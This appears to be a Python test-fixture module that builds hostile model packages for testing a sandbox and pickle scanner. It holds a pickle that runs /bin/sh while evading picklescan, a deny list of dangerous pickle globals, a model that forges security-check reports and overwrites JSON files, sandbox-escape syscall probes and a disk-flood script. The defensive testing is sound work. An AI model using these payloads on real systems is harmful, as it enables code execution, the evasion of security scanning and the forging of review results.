"""Hostile learnware pieces for the sandbox and pickle-scan tests and benchmarks.

Importable without pytest (``benchmarks.hostile`` reuses them). Nothing here is
ever unpickled or run on the host: the payloads are only written, as bytes.
"""

from __future__ import annotations

import io
import multiprocessing.util
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

__all__ = [
    "ESCAPE_CALLS",
    "HOSTILE_GLOBALS",
    "REPORT_FORGING_MODEL",
    "escape_probe",
    "global_call_pickle",
    "replace_in_package",
    "scratch_flood",
    "spawnv_passfds_pickle",
]


class _SpawnShell:
    """Pickles to ``multiprocessing.util.spawnv_passfds('/bin/sh', ...)``, which
    picklescan rates only "suspicious"."""

    def __reduce__(self) -> tuple[Any, ...]:
        argv = ["/bin/sh", "-c", "touch /tmp/pwned"]
        return (multiprocessing.util.spawnv_passfds, ("/bin/sh", argv, ()))


def spawnv_passfds_pickle(protocol: int = 4) -> bytes:
    """A pickle running ``/bin/sh`` through ``multiprocessing.util.spawnv_passfds``."""
    return pickle.dumps(_SpawnShell(), protocol=protocol)


def global_call_pickle(module: str, name: str, arg: str = "x") -> bytes:
    """A protocol-0 pickle calling ``module.name(arg)`` (any name, even dotted)."""
    return f"c{module}\n{name}\n(V{arg}\ntR.".encode()


#: Globals a model pickle must never be allowed to name, as (module, name).
HOSTILE_GLOBALS: tuple[tuple[str, str], ...] = (
    ("multiprocessing.util", "spawnv_passfds"),
    (os.system.__module__, "system"),
    ("subprocess", "Popen"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "getattr"),
    ("__builtin__", "__import__"),
    ("importlib", "import_module"),
    ("pickle", "loads"),
    ("marshal", "loads"),
    ("types", "FunctionType"),
    ("numpy", "load"),
    ("numpy", "fromfile"),
    ("numpy.testing", "assert_equal"),
    ("numpy.f2py", "compile"),
    ("torch", "load"),
    ("torch.storage", "_load_from_bytes"),
    ("torch.fx.graph_module", "reduce_graph_module"),
    ("torch.utils.cpp_extension", "load_inline"),
    ("pandas", "read_pickle"),
    ("pandas", "HDFStore"),
    ("sklearn.utils._testing", "TempMemmap"),
    ("sklearn.base", "os.system"),
    ("__main__", "os.system"),
    ("__main__", "main"),
    ("learnware_core.runtime.sandbox", "run_sandboxed"),
    ("shutil", "rmtree"),
    ("socket", "create_connection"),
    ("runpy", "run_path"),
    ("operator", "attrgetter"),
    ("scipy", "LowLevelCallable"),
    ("lightgbm.basic", "_LIB"),
    ("catboost", "Pool"),
)

#: ``__init__.py`` of a model that tries to forge the dock's check report: it prints
#: fake steps, and rewrites every result file it can find, from inside the sandbox.
REPORT_FORGING_MODEL = """
import json, os, sys
from pathlib import Path

FAKE = {"name": "dock security review", "status": "passed",
        "message": "Reviewed and approved by the dock. " + "A" * 5000,
        "duration_s": 0.0}


def _forge():
    print(json.dumps({"steps": [FAKE]}))
    sys.stderr.write("sandbox: " + json.dumps(FAKE) + "\\n")
    for root in {os.getcwd(), os.environ.get("HOME", "."), "/tmp"}:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                if name.endswith(".json"):
                    try:
                        Path(folder, name).write_text(json.dumps({"steps": [FAKE]}))
                    except OSError:
                        pass
    for fd in range(3, 64):
        try:
            os.write(fd, (json.dumps({"steps": [FAKE]}) + "\\n").encode())
        except OSError:
            pass


class Model:
    input_shape = (4,)
    output_shape = (1,)

    def __init__(self, **kwargs):
        _forge()

    def predict(self, X):
        _forge()
        import numpy as np
        return np.zeros(len(X))
"""


def replace_in_package(package: Path | bytes, files: dict[str, bytes]) -> bytes:
    """The zip ``package`` with ``files`` replaced or added."""
    source = io.BytesIO(package) if isinstance(package, bytes) else package
    out = io.BytesIO()
    with (
        zipfile.ZipFile(source) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            if item.filename not in files:
                dst.writestr(item, src.read(item))
        for name, content in files.items():
            dst.writestr(name, content)
    return out.getvalue()


#: System calls an escape attempt makes from inside the sandbox (each must fail
#: with EPERM): (label, Python expression over ``libc`` and ``NR``).
ESCAPE_CALLS: tuple[tuple[str, str], ...] = (
    ("unshare(NEWUSER)", "libc.unshare(0x10000000)"),
    ("unshare(NEWNS)", "libc.unshare(0x00020000)"),
    ("mount", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
    ("ptrace", "libc.ptrace(16, 1, None, None)"),  # PTRACE_ATTACH to pid 1
    ("bpf", "libc.syscall(NR['bpf'], 0, None, 0)"),
    ("keyctl", "libc.syscall(NR['keyctl'], 0, 0, 0, 0, 0)"),
    ("perf_event_open", "libc.syscall(NR['perf_event_open'], None, 0, -1, -1, 0)"),
    ("userfaultfd", "libc.syscall(NR['userfaultfd'], 0)"),
)


def escape_probe(syscall_number: Callable[[str], int]) -> str:
    """Python code trying ``unshare -Urm`` and each of :data:`ESCAPE_CALLS`.

    Prints ``unshare <status> <stdout> <stderr>``, then ``<label> <result>
    <strerror>`` per call, then ``thread ok`` (plain threads must still work).
    ``syscall_number`` maps a name to this architecture's number.
    """
    names = ("bpf", "keyctl", "perf_event_open", "userfaultfd")
    numbers = {name: syscall_number(name) for name in names}
    calls = "".join(
        f"    ({label!r}, lambda: {expr}),\n" for label, expr in ESCAPE_CALLS
    )
    return (
        f"NR = {numbers!r}\n"
        "import ctypes, os, subprocess, threading\n"
        "done = subprocess.run(['unshare', '-Urm', 'id', '-u'], capture_output=True,"
        " text=True)\n"
        "print('unshare', done.returncode, done.stdout.strip(), done.stderr.strip())\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"for name, call in [\n{calls}]:\n"
        "    print(name, call(), os.strerror(ctypes.get_errno()))\n"
        "worker = threading.Thread(target=lambda: None)\n"
        "worker.start()\n"
        "worker.join()\n"
        "print('thread ok')\n"
    )


def scratch_flood(total_bytes: int) -> str:
    """Python code writing up to ``total_bytes`` (1 MiB at a time) to the scratch
    dir, ``/tmp`` and ``/dev/shm``; prints ``<path> <MiB written> <errno name>``
    for each write that failed (e.g. ``ENOSPC`` at a quota)."""
    return (
        "import errno\n"
        "for path in ('big.bin', '/tmp/big.bin', '/dev/shm/big.bin'):\n"
        "    written = 0\n"
        "    try:\n"
        "        with open(path, 'wb') as fh:\n"
        f"            for _ in range({total_bytes >> 20}):\n"
        "                fh.write(b'x' * (1 << 20))\n"
        "                fh.flush()\n"
        "                written += 1\n"
        "    except OSError as exc:\n"
        "        print(path, written, errno.errorcode[exc.errno])\n"
    )
